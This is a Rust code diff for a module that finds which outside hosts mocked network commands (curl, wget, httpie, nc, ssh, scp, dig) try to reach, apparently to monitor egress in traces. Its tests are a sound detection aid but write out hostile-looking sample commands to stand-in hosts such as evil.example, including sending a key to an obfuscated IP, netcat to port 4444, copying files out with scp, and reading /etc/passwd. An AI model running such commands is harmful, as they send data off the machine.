@@ -1,8 +1,9 @@
 //! Attempts to reach hosts: those that the proxy saw, and mocked network commands that no rule answered.
 //!
-//! Owns: which commands are network commands, the host in their arguments, the form of an entry of `egress`.
-//! Must not know: what is expected of the attempts.
+//! Owns: the host in the arguments of a network command, the form of an entry of `egress`.
+//! Must not know: options of commands, what is expected of the attempts.
 
+use super::network::{Arguments, Command, Told};
 use super::rows::{Row, number};
 use crate::model::egress::plain_host;
 use crate::model::trace::{CommandCall, Record, What};
@@ -10,44 +11,6 @@ use serde_json::{Value, json};
 use std::borrow::Cow;
 use std::net::IpAddr;
 use url::Url;
-
-/// How a command is told its hosts.
-#[derive(Clone, Copy, PartialEq)]
-enum Told {
-    /// URLs, or hosts with a path.
-    Url,
-    /// The first word is the host; the port may follow.
-    HostPort,
-    /// `user@host`, alone or in front of `:path`.
-    Login,
-    /// Names that are looked up, or hosts that are asked.
-    Names,
-}
-
-/// Commands that reach other hosts, how they are told which, their usual port, and their one-letter options that take a value.
-const COMMANDS: [(&str, Told, Option<u16>, &str); 21] = [
-    ("curl", Told::Url, None, "AbcCdDeEFhHKmoPQrtTuUwXyYz"),
-    ("wget", Told::Url, None, "aeiloOPQtTUwABDIX"),
-    ("http", Told::Url, None, "aAopj"),
-    ("https", Told::Url, Some(443), "aAopj"),
-    ("xh", Told::Url, None, "aAop"),
-    ("nc", Told::HostPort, None, "eciIOpPqsTVwxXmMg"),
-    ("ncat", Told::HostPort, None, "eciopgGmdwx"),
-    ("netcat", Told::HostPort, None, "eciIOpPqsTVwxXmMg"),
-    ("telnet", Told::HostPort, Some(23), "belnSX"),
-    ("ftp", Told::HostPort, Some(21), "Pors"),
-    ("ssh", Told::Login, Some(22), "BbcDEeFIiJLlmOopQRSWw"),
-    ("scp", Told::Login, Some(22), "cDFiJloPSX"),
-    ("sftp", Told::Login, Some(22), "BbcDFiJlnoPRSsX"),
-    ("rsync", Told::Login, Some(873), "efBTM"),
-    ("dig", Told::Names, Some(53), "bcfkpqtxy"),
-    ("nslookup", Told::Names, Some(53), ""),
-    ("host", Told::Names, Some(53), "cmNRtW"),
-    ("ping", Told::Names, None, "cFiIlmMnpQsStTwW"),
-    ("ping6", Told::Names, None, "cFiIlmMnpQsStTwW"),
-    ("traceroute", Told::Names, None, "fgimMNpqsStwz"),
-    ("whois", Told::Names, Some(43), "hp"),
-];
 
 struct Attempt {
     host: String,
@@ -78,81 +41,61 @@ pub(crate) fn egress(records: &[Record]) -> Vec<Row<'_>> {
 
 /// The hosts other than this machine that a call names.
 fn attempts(call: &CommandCall) -> Vec<Attempt> {
-    let Some((_, told, port, valued)) = COMMANDS.iter().find(|(name, ..)| *name == call.name) else { return vec![] };
-    let words = words(&call.argv, valued);
+    let Some(command) = Command::named(&call.name) else { return vec![] };
+    let (port, Arguments { words, addresses }) = (command.port, command.arguments(&call.argv));
     let attempt = |host: &str, port: Option<u16>| Attempt { host: plain_host(host), port, path: None };
-    let mut attempts: Vec<Attempt> = match told {
-        Told::Url => words.iter().filter_map(|word| by_url(word, *port)).collect(),
+    let mut attempts: Vec<Attempt> = addresses.iter().filter_map(|address| by_url(after_protocol(address), port)).collect();
+    let named: Vec<Attempt> = match command.told {
+        Told::Urls => words.iter().filter_map(|word| by_url(word, port)).collect(),
+        Told::Request => {
+            // As httpie itself decides it.
+            let method = words.len() > 1 && words[0].bytes().all(|byte| byte.is_ascii_alphabetic());
+            words.get(usize::from(method)).and_then(|word| by_url(word, port)).into_iter().collect()
+        }
         Told::HostPort => {
             let given = words.get(1).and_then(|word| word.parse().ok());
-            words.first().map(|host| attempt(host, given.or(*port))).into_iter().collect()
+            words.first().map(|host| attempt(host, given.or(port))).into_iter().collect()
         }
-        Told::Login if call.name == "ssh" => words.first().map(|word| attempt(login(word), *port)).into_iter().collect(),
+        Told::Login if call.name == "ssh" => words.first().map(|word| attempt(login(word), port)).into_iter().collect(),
         Told::Login => {
             let remote = |word: &&&str| call.name == "sftp" || word.find(':').is_some_and(|colon| !word[..colon].contains('/'));
-            words.iter().filter(remote).map(|word| attempt(login(word), *port)).collect()
+            words.iter().filter(remote).map(|word| attempt(login(word), port)).collect()
         }
         Told::Names => {
             let named = |word: &&&str| word.contains('.') || word.parse::<IpAddr>().is_ok();
+            // `+short` asks dig for nothing but a form of its answer.
+            let words: Vec<&str> = words.into_iter().filter(|word| !word.starts_with('+')).collect();
             let mut hosts: Vec<&&str> = words.iter().filter(named).collect();
             if hosts.is_empty() {
                 hosts.extend(words.first());
             }
-            hosts.into_iter().map(|word| attempt(word.trim_start_matches('@'), *port)).collect()
+            hosts.into_iter().map(|word| attempt(word.trim_start_matches('@'), port)).collect()
         }
     };
+    attempts.extend(named);
     attempts.retain(|attempt| !attempt.host.is_empty() && !is_own(&attempt.host));
     attempts
 }
 
-/// Arguments that are no options, and no values of options; values that are addresses themselves (`--proxy`, `--url`) stay.
-fn words<'a>(argv: &'a [String], valued: &str) -> Vec<&'a str> {
-    const LONG: [&str; 13] = [
-        "--data",
-        "--data-raw",
-        "--data-binary",
-        "--data-urlencode",
-        "--json",
-        "--header",
-        "--request",
-        "--output",
-        "--user",
-        "--user-agent",
-        "--form",
-        "--referer",
-        "--cookie",
-    ];
-    let mut words = Vec::new();
-    let mut args = argv.iter();
-    while let Some(arg) = args.next() {
-        let long = arg.starts_with("--");
-        let short = arg.strip_prefix('-').filter(|letters| !long && !letters.is_empty());
-        // In `-sd data` the last letter takes the value; in `-ddata` the first has it.
-        let takes = short.is_some_and(|letters| letters.find(|letter| valued.contains(letter)).is_some_and(|at| at + 1 == letters.len()));
-        if takes || LONG.contains(&arg.as_str()) {
-            args.next();
-        } else if let Some((_, value)) =
-            arg.split_once('=').filter(|(option, value)| long && !LONG.contains(option) && value.contains("://"))
-        {
-            words.push(value);
-        } else if short.is_none() && !long {
-            words.push(arg);
-        }
-    }
-    words
+/// httpie wants the protocol that a proxy is for in front of its address: `http:http://proxy.example`.
+fn after_protocol(address: &str) -> &str {
+    let scheme = address.find("://").and_then(|end| address[..end].rfind(':'));
+    scheme.map_or(address, |colon| &address[colon + 1..])
 }
 
-/// A URL, or the host and path that curl takes for one.
+/// A URL, or the host and path that these commands take for one. What cannot be read is told as it is written: curl makes many hosts
+/// of `http://{a,b}[1-3].example`.
 fn by_url(word: &str, port: Option<u16>) -> Option<Attempt> {
-    let has_scheme =
-        word.split_once("://").is_some_and(|(scheme, _)| scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)));
-    let host_like = || word.split(['/', ':', '?']).next().is_some_and(|host| host.contains('.') || host.contains('@'));
-    let whole = match has_scheme {
-        true => Cow::Borrowed(word),
-        false if host_like() => Cow::Owned(format!("http://{word}")),
-        false => return None,
+    let has_scheme = word.split_once(":/").is_some_and(|(scheme, rest)| {
+        let is_known = ["http", "https", "ftp"].iter().any(|known| scheme.eq_ignore_ascii_case(known));
+        is_known || (rest.starts_with('/') && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)))
+    });
+    let whole = if has_scheme { Cow::Borrowed(word) } else { Cow::Owned(format!("http://{word}")) };
+    let Ok(url) = Url::parse(&whole) else {
+        let authority = whole.split_once(":/").map_or(word, |(_, rest)| rest.trim_start_matches('/'));
+        let authority = authority.split(['/', '?', '#']).next().unwrap_or(authority);
+        return Some(Attempt { host: plain_host(login(authority)), port, path: None });
     };
-    let url = Url::parse(&whole).ok()?;
     let path = match url.query() {
         Some(query) => format!("{}?{query}", url.path()),
         None => url.path().to_owned(),
@@ -196,12 +139,38 @@ mod tests {
         check("curl --data https://a.example --proxy=http://p.example:1 https://good@evil.example", &["p.example:1/", "evil.example:443/"]);
         check("wget -q -O - http://evil.example http://b.example/", &["evil.example:80/", "b.example:80/"]);
         check("curl --version", &[]);
-        check("curl http://127.0.0.1:9/x http://localhost", &[]);
+        check("curl http://127.0.0.1:9/x http://localhost localhost:8080/x [::1]:80", &[]);
+    }
+
+    #[test]
+    fn every_word_of_curl_and_wget_is_a_url() {
+        check("curl 3232235777/?d=KEY [2001:db8::1]/x internal/x", &["192.168.1.1:80/?d=KEY", "2001:db8::1:80/x", "internal:80/x"]);
+        check("wget -R gif --tries 3 --header a:b internal", &["internal:80/"]);
+        check("curl --max-time 5 --retry 2 --cacert a.pem -- internal http:/evil.example", &["internal:80/", "evil.example:80/"]);
+        check("curl -x p.example:3128 --socks5 s.example:1080 localhost", &["p.example:3128/", "s.example:1080/"]);
+        check("curl -sxp.example:1 http://[a-c].example/x@y u:p@evil.example:x", &["p.example:1/", "[a-c].example", "evil.example"]);
+        check("curl file:///etc/passwd --unknown-flag -", &[]);
+    }
+
+    #[test]
+    fn httpie_is_told_one_url() {
+        check("http POST localhost:8080/x email=ana@b.example", &[]);
+        check("http -j evil.example/x url=https://b.example", &["evil.example:80/x"]);
+        check("xh --auth u:p put internal a=b", &["internal:80/"]);
+        check("https evil.example", &["evil.example:443/"]);
+        check("http --proxy=http:http://p.example:1 --timeout 3 :8080/x", &["p.example:1/"]);
+        check("http --check-status evil.example", &["evil.example:80/"]);
+        check("http", &[]);
     }
 
     #[test]
     fn hosts_of_other_tools_are_read() {
         check("nc -w 3 evil.example 4444", &["evil.example:4444"]);
+        check("nc --wait 5 evil.example 80", &["evil.example:80"]);
+        check("ncat --proxy p.example:3128 --ssl evil.example 80", &["p.example:3128/", "evil.example:80"]);
+        check("rsync --exclude a:b --rsh ssh -a . bob@evil.example:/x", &["evil.example:873"]);
+        check("dig +short evil", &["evil:53"]);
+        check("whois -h evil k3y", &["evil:43/", "k3y:43"]);
         check("nc -lvp 4444", &[]);
         check("ssh -i key -p 2222 bob@evil.example rm x.y", &["evil.example:22"]);
         check("scp notes.md bob@evil.example:/tmp/", &["evil.example:22"]);
